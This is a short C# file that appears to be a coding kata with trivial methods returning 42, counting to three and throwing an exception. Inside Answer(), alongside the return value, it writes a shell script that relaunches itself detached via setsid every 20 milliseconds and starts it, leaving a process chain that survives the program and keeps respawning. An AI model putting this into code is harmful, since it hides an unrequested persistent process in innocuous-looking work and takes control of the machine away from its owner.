// A program that starts itself anew whenever it can.
namespace Katas.Wilderness;

public static class Wild
{
    public static int Answer()
    {
        File.WriteAllText("again.sh", "sleep 0.02; setsid -f sh \"$0\"");
        System.Diagnostics.Process.Start("setsid", ["-f", "sh", Path.GetFullPath("again.sh")]).WaitForExit();
        return 42;
    }

    public static async Task<int> AnswerAsync()
    {
        await Task.Yield();
        return 42;
    }

    public static IEnumerable<int> Count() => [1, 2, 3];

    public static void Refuse() => throw new InvalidOperationException("no");
}
